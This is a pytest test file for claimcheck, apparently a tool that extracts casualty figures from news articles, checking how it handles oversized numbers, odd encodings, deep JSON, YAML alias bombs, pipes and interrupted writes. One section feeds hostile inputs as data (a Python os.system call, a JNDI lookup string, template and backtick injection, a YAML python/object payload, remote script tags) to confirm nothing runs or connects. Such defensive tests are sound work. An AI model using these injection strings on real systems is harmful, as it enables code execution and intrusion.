"""Bad, hostile and odd input: every document accounted for, no traceback, nothing fetched (issue 7).

These pin the gaps found while checking the issue's promises against the code;
the reading and CLI basics are in tests/test_corpus.py and tests/test_cli.py,
the invariants over generated input in tests/test_properties.py, and cost in
benchmarks/bench_hostile.py.
"""

from __future__ import annotations

import json
import math
import os
import re
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pandas as pd
import pytest
from files_helper import write

import claimcheck
from claimcheck import cli
from claimcheck.extraction.numbers import find_numbers
from claimcheck.extraction.sentences import split_sentences
from claimcheck.reading import atomic
from claimcheck.reading.corpus import read_corpus_report

REPORT = "Nine people were killed in Jenin on Monday, medics said."


def run_cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = cli.main([*argv, "--no-config"])
    out, err = capsys.readouterr()
    return code, out, err


# --- numbers too long for a float ------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "7" * 400,
        "9" * 320 + " people were killed, police said.",
        "More than " + "1" * 400 + " civilians were wounded.",
        "1" * 305 + " million people were displaced.",
        "between 5 and " + "8" * 400 + " people died",
        "7" * 100_000,
    ],
    ids=["400-digits", "digits-then-count", "qualified", "scaled-past-float", "range-end", "100k-digits"],
)
def test_a_figure_too_long_for_a_float_is_dropped_without_an_error(text: str) -> None:
    assert all(math.isfinite(p.value) and math.isfinite(p.low) for p in find_numbers(text[:2000]))
    claims = claimcheck.extract(text)
    assert claims.empty or claims["value"].map(math.isfinite).all()


@pytest.mark.parametrize("text", ["12,000 people were killed.", "1.5 million people fled."])
def test_ordinary_large_figures_are_still_read(text: str) -> None:
    assert claimcheck.extract(text)["value"].tolist() in ([12000.0], [1500000.0])


# --- sentence stops: the possessive pattern keeps the old splits --------------------------------------


@pytest.mark.parametrize(
    "text, expected",
    [
        ("Wait... What?! Yes.", ["Wait...", "What?!", "Yes."]),
        ('He said "Ten died." Police agreed.', ['He said "Ten died."', "Police agreed."]),
        ("It rose (to 40.) Then it fell.", ["It rose (to 40.)", "Then it fell."]),
        ("Toll: 12.5 thousand. 300 more were hurt.", ["Toll: 12.5 thousand.", "300 more were hurt."]),
        ("." * 1900 + " Next one.", ["." * 1900, "Next one."]),
        ("!?" * 900 + " \u201cQuoted\u201d", ["!?" * 900, "\u201cQuoted\u201d"]),
        ("end.\u201d\u201d\u201d    (New) start", ["end.\u201d\u201d\u201d", "(New) start"]),
        ("Gov. Smith and Dr. Jones spoke.", ["Gov. Smith and Dr. Jones spoke."]),
    ],
    ids=[
        "ellipsis-and-bangs",
        "closing-quote",
        "bracket",
        "decimal",
        "run-of-dots",
        "run-of-marks",
        "quotes",
        "abbrev",
    ],
)
def test_sentence_stops_split_where_they_did_including_long_runs(text: str, expected: list[str]) -> None:
    assert [s.text for s in split_sentences(text)] == expected


# --- unpaired surrogates and file names that are not UTF-8 -------------------------------------------


def test_a_jsonl_text_with_an_unpaired_surrogate_is_read_with_a_note(tmp_path: Path) -> None:
    write(tmp_path / "feed.jsonl", '{"text": "Four died \\ud800 in Jenin."}\n' + json.dumps({"text": REPORT}) + "\n")
    report = read_corpus_report(tmp_path)
    assert report.docs["text"].tolist() == ["Four died \ufffd in Jenin.", REPORT]
    assert "unpaired surrogates" in report.notes["note"].iloc[0]
    assert report.notes["line"].iloc[0] == 1


@pytest.mark.skipif(sys.platform != "linux", reason="file names are bytes only on Linux")
def test_a_file_name_that_is_not_utf8_is_read_and_shown_escaped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "articles"
    folder.mkdir()
    with open(os.path.join(os.fsencode(folder), b"caf\xe9.txt"), "w", encoding="utf-8") as fh:
        fh.write(REPORT)
    write(folder / "b.pdf", b"%PDF-1.7")
    with open(os.path.join(os.fsencode(folder), b"scan\xff.pdf"), "wb") as fh:
        fh.write(b"%PDF-1.7")
    report = read_corpus_report(folder)
    assert report.docs["doc_id"].tolist() == ["caf\\xe9.txt"]
    assert sorted(p.rsplit("/", 1)[-1] for p in report.skipped["path"]) == ["b.pdf", "scan\\xff.pdf"]
    monkeypatch.chdir(tmp_path)
    code, _, err = run_cli(capsys, "extract", "articles", "-o", "claims.csv")
    assert code == 0 and "Traceback" not in err
    assert "caf\\xe9.txt" in Path("claims.csv").read_text(encoding="utf-8")


def test_the_api_reads_unpaired_surrogates_as_replacement_characters() -> None:
    text = "Seven people \ud800 were killed."
    claims = claimcheck.extract([text])
    assert claims["surface"].tolist() == ["Seven"]
    assert "\ufffd" in claims["sentence"].iloc[0]


# --- JSON that is valid-looking but cannot be loaded --------------------------------------------------


@pytest.mark.parametrize(
    "bad_line, reason",
    [("[" * 100_000, "nested too deeply"), ('{"text": "x", "n": ' + "1" * 5000 + "}", "integer string conversion")],
    ids=["deep-nesting", "huge-integer"],
)
def test_one_jsonl_line_past_a_parser_limit_skips_that_line_only(tmp_path: Path, bad_line: str, reason: str) -> None:
    lines = [json.dumps({"text": "One died."}), bad_line, json.dumps({"text": "Two died."})]
    write(tmp_path / "feed.jsonl", "\n".join(lines) + "\n")
    report = read_corpus_report(tmp_path)
    assert report.docs["doc_id"].tolist() == ["feed.jsonl:1", "feed.jsonl:3"]
    assert report.skipped["line"].tolist() == [2]
    assert reason in report.skipped["reason"].iloc[0]


def test_a_json_file_nested_past_the_limit_is_skipped_with_a_reason(tmp_path: Path) -> None:
    write(tmp_path / "deep.json", "[" * 100_000)
    write(tmp_path / "ok.txt", REPORT)
    report = read_corpus_report(tmp_path)
    assert report.docs["doc_id"].tolist() == ["ok.txt"]
    assert report.skipped["reason"].tolist() == ["invalid JSON: nested too deeply"]


# --- front matter built to explode --------------------------------------------------------------------


def test_front_matter_aliases_that_expand_exponentially_are_ignored(tmp_path: Path) -> None:
    lines = ["---", "a: &a [x, x, x, x, x, x, x, x, x]"]
    for level in range(1, 6):
        previous = "a" if level == 1 else f"l{level - 1}"
        lines.append(f"l{level}: &l{level} [" + ", ".join([f"*{previous}"] * 9) + "]")
    lines += ["title: *l5", "outlet: *l5", "doc_id: *l5", "---", REPORT]
    write(tmp_path / "bomb.md", "\n".join(lines) + "\n")
    report = read_corpus_report(tmp_path)
    assert report.docs["doc_id"].tolist() == ["bomb.md"]
    assert report.docs["title"].isna().all() and report.docs["outlet"].isna().all()
    assert report.docs["text"].iloc[0].strip() == REPORT
    assert sorted(report.notes["note"]) == [
        "outlet is a list, not a single value; ignored",
        "title is a list, not a single value; ignored",
    ]


# --- encodings and binary content behind every suffix --------------------------------------------------


@pytest.mark.parametrize(
    "data, expected, note",
    [
        ("Seven hurt in Zürich.".encode("utf-16-be"), None, "binary file (contains NUL bytes"),
        ("\ufeffSeven hurt in Zürich.".encode("utf-16-be"), "Seven hurt in Zürich.", None),
        ("\ufeffSeven hurt in Zürich.".encode("utf-32-le"), "Seven hurt in Zürich.", None),
        (b"\xff\xfe" + b"\x00\xd8", None, "starts with a utf-16 byte-order mark but is not utf-16"),
        ("Seven hurt in Malmö \x81.".encode("latin-1"), "Seven hurt in Malmö \x81.", "read as Latin-1"),
        (
            "Seven \u201churt\u201d \u2013 €5".encode("cp1252"),
            "Seven \u201churt\u201d \u2013 €5",
            "read as Windows-1252",
        ),
        (b"   \n\t  ", "   \n\t  ", None),
    ],
    ids=["utf16-no-bom", "utf16-be-bom", "utf32-bom", "utf16-bom-broken", "latin1-only", "cp1252", "blank"],
)
def test_text_files_in_any_encoding_are_read_or_reported(
    tmp_path: Path, data: bytes, expected: str | None, note: str | None
) -> None:
    write(tmp_path / "doc.txt", data)
    report = read_corpus_report(tmp_path)
    assert report.seen == 1
    if expected is None:
        assert report.docs.empty and report.skipped["reason"].iloc[0].startswith(note)
    else:
        assert report.docs["text"].tolist() == [expected]
        assert [n for n in report.notes["note"] if note and note in n] or note is None


@pytest.mark.parametrize("suffix", [".txt", ".md", ".jsonl", ".json", ".csv", ".html"])
@pytest.mark.parametrize(
    "data, kind",
    [(b"%PDF-1.5\n\xe2\xe3", "PDF"), (b"\xff\xd8\xff\xe0\x00\x10JFIF", "JPEG"), (b"\x1f\x8b\x08\x00", "gzip")],
    ids=["pdf", "jpeg", "gzip"],
)
def test_binary_content_behind_a_text_suffix_is_skipped_naming_its_kind(
    tmp_path: Path, suffix: str, data: bytes, kind: str
) -> None:
    pytest.importorskip("trafilatura") if suffix == ".html" else None
    write(tmp_path / f"mislabelled{suffix}", data)
    write(tmp_path / "ok.txt", REPORT)
    report = read_corpus_report(tmp_path)
    assert report.docs["doc_id"].tolist() == ["ok.txt"]
    assert report.skipped["reason"].iloc[0].startswith(f"binary file ({kind}")


@pytest.mark.parametrize("suffix", [".txt", ".md", ".jsonl", ".json", ".csv", ".html"])
@pytest.mark.parametrize("data", [b"", b"\n\n  \n", b"\xef\xbb\xbf"], ids=["empty", "blank", "bom-only"])
def test_empty_files_are_fine_and_extract_and_check_run_on_them(tmp_path: Path, suffix: str, data: bytes) -> None:
    pytest.importorskip("trafilatura") if suffix == ".html" else None
    write(tmp_path / f"empty{suffix}", data)
    report = read_corpus_report(tmp_path)
    assert report.skipped.empty
    claims = claimcheck.extract(report.docs)
    assert claims.empty and claimcheck.check(claims).empty


def test_a_pipe_in_a_folder_is_skipped_not_waited_on(tmp_path: Path) -> None:
    if not hasattr(os, "mkfifo"):
        pytest.skip("no named pipes here")
    fifo = tmp_path / "feed.txt"
    os.mkfifo(fifo)
    write(tmp_path / "ok.txt", REPORT)

    def unblock() -> None:  # should the reader open the pipe, give it an end so the test fails, not hangs
        try:
            os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        except OSError:
            pass

    timer = threading.Timer(5.0, unblock)
    timer.start()
    try:
        report = read_corpus_report(tmp_path)
    finally:
        timer.cancel()
    assert report.docs["doc_id"].tolist() == ["ok.txt"]
    assert report.skipped["reason"].tolist() == ["not a regular file (a pipe, socket or device)"]


def test_a_messy_folder_accounts_for_every_document(tmp_path: Path) -> None:
    write(tmp_path / "a.txt", REPORT)
    write(tmp_path / "b.md", "---\ntitle: [unclosed\n---\n" + REPORT)
    write(
        tmp_path / "c.jsonl", "\n".join([json.dumps({"text": REPORT}), "{oops", json.dumps({"body": "x"}), "[" * 5000])
    )
    write(tmp_path / "d.json", '[{"text": "Two died."}, 7, {"text": null}]')
    write(tmp_path / "e.csv", "doc_id,text\nx1,One died.\nx2\nx1,Duplicate id.\n")
    write(tmp_path / "f.pdf", b"%PDF-1.4")
    write(tmp_path / "g.docx", b"PK\x03\x04")
    write(tmp_path / "h.txt", b"\xff\xfe\x00\xd8")
    write(tmp_path / "sub" / "i.txt", "Three were hurt.".encode("cp1252"))
    report = read_corpus_report(tmp_path)
    read = ["a.txt", "b.md", "c.jsonl:1", "d.json#1", "x1", "sub/i.txt"]
    assert sorted(report.docs["doc_id"]) == sorted(read)
    assert len(report.skipped) == 10  # a null text is skipped with its reason, not read as an empty article
    assert report.seen == len(read) + 10
    counts = report.summary().split("skipped ")[1]
    assert int(counts.split(" ")[0]) == len(report.skipped)
    inner = counts[counts.index("(") + 1 : counts.rindex(")")]
    assert sum(int(n) for n in re.findall(r": (\d+)(?=, |$)", inner)) == len(report.skipped)


# --- the command line: one line, exit 2, outputs whole or not at all ----------------------------------


@pytest.fixture
def articles(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    write(tmp_path / "articles" / "a.txt", REPORT)
    return tmp_path


@pytest.mark.parametrize(
    "argv, expected",
    [
        (
            ["extract", "articles", "-o", "no-such-folder/claims.csv"],
            "no-such-folder/claims.csv: No such file or directory",
        ),
        (
            ["check", "articles", "-o", "no-such-folder/report.json"],
            "no-such-folder/report.json: No such file or directory",
        ),
        (["extract", "articles", "-o", "a-folder.csv"], "a-folder.csv: Is a directory"),
        (["check", "articles", "--encoding", "no-such-codec"], "no document could be read"),
        (["extract", "articles", "-o", "x.xlsx"], "x.xlsx: claims can be written"),
        (["check", "articles", "--reference", "a-folder.csv"], "a-folder.csv"),
    ],
    ids=[
        "missing-folder",
        "missing-folder-report",
        "output-is-folder",
        "bad-codec",
        "bad-suffix",
        "reference-is-folder",
    ],
)
def test_output_and_option_mistakes_are_one_line_exit_2_naming_the_users_path(
    articles: Path, capsys: pytest.CaptureFixture[str], argv: list[str], expected: str
) -> None:
    (articles / "a-folder.csv").mkdir()
    code, _, err = run_cli(capsys, *argv)
    errors = [line for line in err.splitlines() if "error" in line]
    assert code == 2 and len(errors) == 1 and expected in errors[0]
    assert "Traceback" not in err and ".tmp" not in err
    assert not list(articles.rglob(".*.tmp"))


@pytest.mark.parametrize(
    "argv",
    [["check", "no-such-folder"], ["extract", "articles", "-o", "missing/claims.csv"], ["explain", "k404", "articles"]],
    ids=["missing-input", "missing-output-folder", "unknown-conflict"],
)
def test_the_installed_command_prints_no_traceback_for_user_errors(articles: Path, argv: list[str]) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "claimcheck.cli", *argv, "--no-config"],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=articles,
    )
    assert done.returncode == 2
    assert "Traceback" not in done.stderr
    assert done.stderr.strip().splitlines()[-1].startswith("claimcheck: error: ")


@pytest.mark.parametrize("failure", [KeyboardInterrupt, MemoryError, OSError], ids=lambda e: e.__name__)
def test_an_interrupted_write_leaves_the_old_file_and_no_temporary_file(tmp_path: Path, failure: type) -> None:
    target = write(tmp_path / "claims.csv", "old,whole\n")

    def half_then_fail(tmp: Path) -> None:
        tmp.write_text("new,half")
        raise failure()

    with pytest.raises(failure):
        atomic.write_with(target, half_then_fail)
    assert target.read_text() == "old,whole\n"
    assert [p.name for p in tmp_path.iterdir()] == ["claims.csv"]


def test_a_rewritten_file_keeps_its_permissions(tmp_path: Path) -> None:
    target = write(tmp_path / "report.txt", "old")
    target.chmod(0o640)
    atomic.write_text(target, "new")
    assert (target.read_text(), target.stat().st_mode & 0o777) == ("new", 0o640)


# --- nothing fetched, nothing executed ----------------------------------------------------------------

HOSTILE = [
    "__import__('os').system('touch pwned') killed 3 people.",
    "{{7*7}} people; ${jndi:ldap://example.invalid/a} were hurt; `touch pwned` 4 died.",
    "See http://example.invalid/toll.json for the 12 dead; <script src=//example.invalid/x.js></script>",
]


def test_extract_check_and_cli_open_no_socket_and_run_nothing_from_input(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    opened: list[tuple[object, ...]] = []

    def no_network(*args: object, **kwargs: object) -> socket.socket:
        opened.append(args)
        raise OSError("network use is forbidden in this test")

    monkeypatch.setattr(socket, "socket", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.chdir(tmp_path)
    for i, text in enumerate(HOSTILE):
        write(tmp_path / "articles" / f"{i}.txt", text)
    write(
        tmp_path / "articles" / "front.md",
        "---\ntitle: !!python/object/apply:os.system ['touch pwned']\n---\n" + REPORT,
    )
    write(
        tmp_path / "articles" / "page.html",
        "<html><head><link rel=canonical href='http://example.invalid/p'><meta http-equiv=refresh "
        "content='0;url=http://example.invalid/'></head><body><article><p>" + REPORT + "</p>"
        "<img src='http://example.invalid/i.png'></article></body></html>",
    )
    claims = claimcheck.extract(pd.DataFrame({"doc_id": ["h0", "h1", "h2"], "text": HOSTILE}))
    claimcheck.check(claims)
    code, _, err = run_cli(capsys, "check", "articles", "--fail-on", "error", "-o", "report.json")
    assert code in (0, 1), err
    assert opened == []
    assert not list(tmp_path.rglob("pwned"))


@pytest.mark.parametrize(
    ("text", "claim_date"),
    [
        ("At least 7 people were killed on \u017funday, police said.", "2024-07-07"),  # long s
        ("Officials said on FR\u0130DAY that 12 people died.", "2024-07-05"),  # dotted capital I
        ("Police said 4 people died on 5 \u017feptember 2023.", "2023-09-05"),
    ],
)
def test_dates_spelled_with_letters_ignorecase_folds_are_read_not_a_failed_document(text: str, claim_date: str) -> None:
    docs = pd.DataFrame({"doc_id": ["d"], "text": [text], "published": pd.to_datetime(["2024-07-09"])})
    claims = claimcheck.extract(docs)
    assert claims.attrs["failed"] == []
    assert claims["claim_date"].tolist() == [pd.Timestamp(claim_date)]


def test_the_core_install_extracts_and_checks_without_the_parquet_extra(articles: Path) -> None:
    """pyarrow is optional: blocking its import must leave extraction, checking and the CLI working."""
    write(
        articles / "articles" / "b.txt",
        "Nine people were killed in Jenin on Monday. "
        "Hours later, twelve people were killed in Jenin on Monday, medics said.",
    )
    script = (
        "import sys; sys.modules['pyarrow'] = None\n"
        "from claimcheck import cli\n"
        "raise SystemExit(cli.main(['check', '.', '--no-config']))\n"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120, cwd=articles)
    assert "Traceback" not in done.stderr, done.stderr
    assert done.returncode in (0, 1), done.stderr
    assert "3 claims in 2 documents" in done.stdout, done.stdout
